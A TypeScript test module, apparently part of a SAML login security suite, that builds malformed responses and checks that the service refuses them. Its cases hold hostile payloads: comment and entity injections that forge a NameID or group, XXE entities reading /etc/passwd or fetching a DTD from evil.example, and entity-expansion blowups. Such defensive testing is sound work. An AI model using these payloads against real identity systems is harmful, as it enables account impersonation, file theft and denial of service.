// What two parsers could read differently: markup that is refused before anything is verified, however well it is signed.
import { attributeElement, attributeStatement, groupClaim, toBase64 } from '../../saml/support/response-builder.ts';
import { type Attack, rawForm } from '../support/attack.ts';

type Edit = (xml: string) => string;

const inAssertion =
  (insert: string): Edit =>
  (xml) =>
    xml.replace('<Conditions', `${insert}<Conditions`);
const inName =
  (insert: string): Edit =>
  (xml) =>
    xml.replace('alice@', `al${insert}ice@`);
const inGroup =
  (insert: string): Edit =>
  (xml) =>
    xml.replace('AWS-Dev<', `AWS-${insert}Dev<`);
const inDigest =
  (insert: string): Edit =>
  (xml) =>
    xml.replace(/(<ds:DigestValue>[^<]{8})/, `$1${insert}`);
const inSignature =
  (insert: string): Edit =>
  (xml) =>
    xml.replace(/(<ds:SignatureValue>[^<]{8})/, `$1${insert}`);
const before =
  (insert: string): Edit =>
  (xml) =>
    insert + xml;

const edits: readonly (readonly [string, string, Edit])[] = [
  ['a comment that cuts the NameID', 'CVE-2017-11427', inName('<!-- -->')],
  ['a comment that cuts a group', 'CVE-2017-11428', inGroup('<!---->')],
  ['a comment in the DigestValue', 'CVE-2025-29775', inDigest('<!-- AAAA -->')],
  ['a comment in the SignatureValue', 'CVE-2025-29775', inSignature('<!-- AAAA -->')],
  [
    'a comment in the Audience',
    'DIFF',
    (xml) => xml.replace('/saml/metadata</Audience>', '/saml/metadata<!-- -->.evil.example</Audience>'),
  ],
  ['a comment between elements', 'DIFF', inAssertion('<!-- x -->')],
  ['a comment before the root', 'DIFF', before('<!-- x -->')],
  ['a comment behind the root', 'DIFF', (xml) => `${xml}<!-- x -->`],
  ['a processing instruction in the NameID', 'C14N, OneUptime #2988', inName('<?x y?>')],
  ['a processing instruction in a group', 'C14N', inGroup('<?x y?>')],
  ['a processing instruction in the DigestValue', 'C14N', inDigest('<?x y?>')],
  [
    'a processing instruction whose data is markup',
    'C14N',
    inAssertion('<?x <Subject><NameID>admin@corp.example</NameID></Subject>?>'),
  ],
  ['a processing instruction before the root', 'C14N', before('<?xml-stylesheet href="https://evil.example/"?>')],
  ['a processing instruction behind the root', 'C14N', (xml) => `${xml}<?x y?>`],
  ['CDATA in the NameID', 'DIFF', (xml) => xml.replace('alice@', '<![CDATA[alice]]>@')],
  ['CDATA with markup in a group', 'GHSA-wh4c-j3r5-mjhp', inGroup('<![CDATA[<x>]]>')],
  ['an empty CDATA section', 'DIFF', inName('<![CDATA[]]>')],
  ['a DOCTYPE', 'CVE-2025-25291', before('<!DOCTYPE Response>')],
  [
    'a DOCTYPE with an attribute list that makes an ID',
    'CVE-2025-25292',
    before('<!DOCTYPE r [<!ATTLIST Assertion AssertionID ID #IMPLIED>]>'),
  ],
  ['a DOCTYPE with a default attribute', 'DIFF', before('<!DOCTYPE r [<!ATTLIST NameID Format CDATA "x">]>')],
  [
    'an internal entity in the NameID',
    'CVE-2025-23369',
    (xml) => `<!DOCTYPE r [<!ENTITY a "admin">]>${xml.replace('alice@', '&a;@')}`,
  ],
  [
    'an entity inside the ID',
    'CVE-2025-23369',
    (xml) => `<!DOCTYPE r [<!ENTITY a "x">]>${xml.replace('URI="#', 'URI="#&a;')}`,
  ],
  [
    'an external entity',
    'XXE',
    (xml) => `<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>${xml.replace('alice@', '&a;@')}`,
  ],
  ['a parameter entity', 'XXE', before('<!DOCTYPE r [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>')],
  ['an external DTD', 'XXE', before('<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">')],
  [
    'entities that multiply',
    'DOS',
    before('<!DOCTYPE r [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'),
  ],
  ['an entity nobody declared', 'DIFF', inName('&evil;')],
  ['an entity of HTML', 'DIFF', inName('&nbsp;')],
  ['a reference to a character XML has not', 'DIFF', inName('&#0;')],
  ['a reference to a surrogate', 'DIFF', inName('&#xD800;')],
  ['a reference beyond Unicode', 'DIFF', inName('&#x110000;')],
  ['a raw control character', 'DIFF', inName('\u0001')],
  ['XML 1.1', 'DIFF', before('<?xml version="1.1"?>')],
  ['a declaration of UTF-16', 'G19', before('<?xml version="1.0" encoding="UTF-16"?>')],
  ['a declaration of UTF-7', 'G19', before('<?xml version="1.0" encoding="UTF-7"?>')],
  ['a declaration of Latin-1', 'G19', before('<?xml version="1.0" encoding="ISO-8859-1"?>')],
  ['two XML declarations', 'DIFF', before('<?xml version="1.0"?><?xml version="1.0"?>')],
  ['an XML declaration behind a space', 'DIFF', before(' <?xml version="1.0"?>')],
  ['text before the root', 'CVE-2022-39300', before('x')],
  ['text behind the root', 'CVE-2022-39353', (xml) => `${xml}x`],
  ['a second root', 'CVE-2022-39299', (xml) => xml + xml],
  ['text between elements', 'G19', inAssertion('text')],
  ['an end tag with an attribute', 'GHSA-6h8r-xr42-gp59', (xml) => xml.replace('</Conditions>', '</Conditions x="y">')],
  ['an end tag in another case', 'DIFF', (xml) => xml.replace('</Conditions>', '</conditions>')],
  ['an attribute twice', 'DIFF', (xml) => xml.replace('<Conditions ', '<Conditions NotBefore="2020-01-01T00:00:00Z" ')],
  ['an attribute without quotes', 'DIFF', (xml) => xml.replace('<Conditions ', '<Conditions x=y ')],
  ['an unescaped < in an attribute', 'DIFF', (xml) => xml.replace('<Conditions ', '<Conditions x="<" ')],
  ['an element that is never closed', 'DIFF', (xml) => xml.slice(0, -'</samlp:Response>'.length)],
];

const gzip = 'H4sIAAAAAAAAA';
/** The same good message, put into the form in a way that lax decoders pass over. */
const encodings: readonly (readonly [string, (xml: string) => string])[] = [
  ['as plain XML', (xml) => xml],
  ['in the alphabet for URLs', (xml) => `${toBase64(xml).slice(0, -4)}-_==`],
  ['with a character of no alphabet', (xml) => toBase64(xml).replace(/^.{8}/, '$&*')],
  ['with a NUL', (xml) => toBase64(xml).replace(/^.{8}/, '$&\0')],
  ['with padding inside', (xml) => `${toBase64('<')}${toBase64(xml)}`],
  ['with too much padding', (xml) => `${toBase64(xml)}====`],
  ['encoded twice', (xml) => toBase64(toBase64(xml))],
  ['percent-encoded twice', (xml) => encodeURIComponent(`${toBase64(xml)}+=`)],
  ['behind a data URL', (xml) => `data:text/xml;base64,${toBase64(xml)}`],
  ['in UTF-16', (xml) => Buffer.from(xml, 'utf16le').toString('base64')],
  ['in UTF-16 with a byte order mark', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le').toString('base64')],
  ['with an overlong form', (xml) => spliced(xml, [0xc0, 0xaf])],
  ['with a surrogate in UTF-8', (xml) => spliced(xml, [0xed, 0xa0, 0x80])],
  ['with half a character', (xml) => spliced(xml, [0xe2, 0x82])],
  ['with two byte order marks', (xml) => toBase64(`\ufeff\ufeff${xml}`)],
  ['compressed', (xml) => gzip + toBase64(xml)],
  ['empty', () => ''],
  ['as white space', () => ' \r\n\t'],
];

function spliced(xml: string, bytes: readonly number[]): string {
  const [head, tail] = xml.split('alice');
  return Buffer.concat([Buffer.from(`${head}al`), Buffer.from(bytes), Buffer.from(`ice${tail}`)]).toString('base64');
}

/** Forms that say something twice, or in another way. */
const badForms: readonly Pick<Attack, 'name' | 'post' | 'headers'>[] = [
  {
    name: 'two SAMLResponses, the second good',
    post: (xml, { login }) => `SAMLResponse=${encodeURIComponent(toBase64('<x/>'))}&${rawForm(login, toBase64(xml))}`,
  },
  {
    name: 'two SAMLResponses, the first good',
    post: (xml, { login }) => `${rawForm(login, toBase64(xml))}&SAMLResponse=${encodeURIComponent(toBase64('<x/>'))}`,
  },
  {
    name: 'a SAMLResponse in brackets',
    post: (xml, { login }) => rawForm(login, toBase64(xml)).toString().replace('SAMLResponse=', 'SAMLResponse[]='),
  },
  {
    name: 'a SAMLResponse as an object',
    post: (xml, { login }) =>
      rawForm(login, toBase64(xml)).toString().replace('SAMLResponse=', 'SAMLResponse[toString]='),
  },
  {
    name: 'two RelayStates',
    post: (xml, { login }) => `${rawForm(login, toBase64(xml))}&RelayState=${login.relayState}`,
  },
  { name: 'a SAMLart in place of the SAMLResponse', post: () => 'SAMLart=AAQAAA' },
  {
    name: 'the message in JSON',
    headers: { 'content-type': 'application/json' },
    post: (xml, { login }) => JSON.stringify({ SAMLResponse: toBase64(xml), RelayState: login.relayState }),
  },
  {
    name: 'the message as text',
    headers: { 'content-type': 'text/plain' },
    post: (xml, { login }) => rawForm(login, toBase64(xml)),
  },
];
const forms = badForms.map((form): Attack => ({ ...form, rule: 'DIFF', reason: 'malformed', modes: ['assertion'] }));

/** These are good: over-refusing is a fault as well (IIP-SSO07). Each is the twin of a refusal next to it. */
const tolerated: readonly Attack[] = (
  [
    ['an XML declaration', (xml: string) => `<?xml version="1.0" encoding="UTF-8"?>\n${xml}`],
    ['one byte order mark', (xml: string) => `\ufeff${xml}`],
    ['white space behind the root', (xml: string) => `${xml}\r\n `],
    ['characters by reference', (xml: string) => xml.replace('alice@', '&#97;lic&#x65;@')],
  ] as const
).map(([name, forge]) => ({
  name: `a comment beside ${name}, which alone is fine`,
  rule: 'IIP-SSO07',
  reason: 'malformed',
  modes: ['assertion'],
  forge: (xml) => `${forge(xml)}<!-- -->`,
  twin: { forge },
}));

export const syntax: readonly Attack[] = [
  ...edits.map(([name, rule, forge]): Attack => ({ name, rule, reason: 'malformed', forge })),
  ...edits
    .filter(([name]) => /^(a comment|CDATA|a processing instruction) .*(NameID|group)$/.test(name))
    .map(
      ([name, rule, edit]): Attack => ({
        name: `${name}, put there before it was signed`,
        rule,
        reason: 'malformed',
        options: { editUnsigned: edit },
      }),
    ),
  ...encodings.map(
    ([name, encode]): Attack => ({
      name: `the message ${name}`,
      rule: 'DIFF',
      reason: 'malformed',
      modes: ['assertion'],
      post: (xml, { login }) => rawForm(login, encode(xml)),
    }),
  ),
  ...forms,
  {
    name: 'more fields than a form has',
    rule: 'DOS',
    reason: 'too_large',
    modes: ['assertion'],
    post: (xml, { login }) => `${'x=1&'.repeat(20)}${rawForm(login, toBase64(xml))}`,
  },
  {
    name: 'a form above its own limit',
    rule: 'DOS',
    reason: 'too_large',
    modes: ['assertion'],
    post: (xml, { login }) => `${rawForm(login, toBase64(xml))}&x=${'x'.repeat(600_000)}`,
  },
  {
    name: 'a message above the limit, good but for its size',
    rule: 'DOS',
    reason: 'too_large',
    options: { editSigned: (xml) => xml + ' '.repeat(270_000) },
  },
  ...tolerated,
  {
    name: 'text around the markup of a group',
    rule: 'DIFF',
    reason: 'malformed',
    parts: {
      attributes: attributeStatement(attributeElement(groupClaim, 'CORP\\AWS-Dev')),
      nameId: '<NameID>alice@corp.example<x xmlns="urn:x"/></NameID>',
    },
  },
];
